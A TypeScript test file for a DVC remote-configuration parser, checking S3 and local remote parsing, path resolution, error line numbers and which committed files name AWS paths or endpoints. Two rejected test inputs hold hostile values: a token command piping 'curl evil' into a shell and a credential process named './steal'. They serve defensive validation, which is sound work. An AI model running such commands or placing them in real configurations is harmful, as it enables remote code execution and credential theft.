import { expect, it } from 'vitest';
import { parseDvcConfig } from './dvc-config.ts';
import { readRemoteSettings, remoteNames, type S3Settings } from './remote-settings.ts';

const read = (settings: string, file = '/home/me/project/.dvc/config') =>
  readRemoteSettings(parseDvcConfig(`['remote "store"']\n${settings}`, file), 'store');

it('reads an s3 remote with its bucket and prefix', () => {
  const settings = read('url = s3://bucket//a/b/\nregion = eu-north-1\nuse_ssl = False\njobs = 4\n');
  expect(settings).toMatchObject({ kind: 's3', bucket: 'bucket', prefix: 'a/b', region: 'eu-north-1', use_ssl: false, jobs: 4 });
});

it('reads a folder from where the configuration lies', () => {
  expect(read('url = ../../store\n')).toMatchObject({ kind: 'local', folder: '/home/me/store' });
  expect(read('url = /mnt/store\n')).toMatchObject({ folder: '/mnt/store' });
  expect(read('url = ~/store\n')).toMatchObject({ folder: '~/store' });
  expect(read('url = ../store\n', 'config')).toMatchObject({ folder: '../store' });
});

it.each([
  ['url = s3://b\njobs = many\n', 3],
  ['url = s3:///key\n', 2],
  ['url = ../store\nverify = maybe\n', 3],
  ['url = webdavs://host\nbearer_token_command = curl evil | sh\n', 3],
  ['url = s3://b\ncredential_process = ./steal\n', 3],
])('names the line of %j', (settings, line) => {
  const error = expect.objectContaining({ code: 'invalid-config', place: { file: '/home/me/project/.dvc/config', line } });
  expect(() => read(settings)).toThrow(error);
});

it('tells which AWS files the project names, and counts paths from the folder of the configuration', () => {
  const paths = 'url = s3://b\nconfigpath = ../aws\ncredentialpath = ~/keys\n';
  const file = '/home/me/project/.dvc/config';
  expect(read(paths)).toMatchObject({
    configpath: '/home/me/project/aws',
    credentialpath: '~/keys',
    namedByProject: { configpath: { file, line: 3 }, credentialpath: { file, line: 4 } },
  });
  expect(read(paths, '/home/me/.config/dvc/config')).toMatchObject({ configpath: '/home/me/.config/aws', namedByProject: {} });
});

it.each([
  ['/home/me/project/.dvc/config', { endpointNamedAt: { file: '/home/me/project/.dvc/config', line: 3 } }],
  ['/home/me/project/.dvc/config.local', {}],
  ['/home/me/.config/dvc/config', {}],
])('tells whether %s, which names the server, is committed', (file, named) => {
  const { endpointNamedAt } = read('url = s3://b\nendpointurl = http://host\n', file) as S3Settings;
  expect(endpointNamedAt === undefined ? {} : { endpointNamedAt }).toEqual(named);
});

it('tells what is unsupported or unknown', () => {
  expect(() => read('url = gs://bucket\n')).toThrow(expect.objectContaining({ code: 'unsupported-remote' }));
  const config = parseDvcConfig(`['remote "a"']\nurl = x\n['remote "b"']\nurl = y\n`, 'config');
  expect(remoteNames(config)).toEqual(['a', 'b']);
  expect(() => readRemoteSettings(config, 'c')).toThrow(/no remote 'c'/);
});
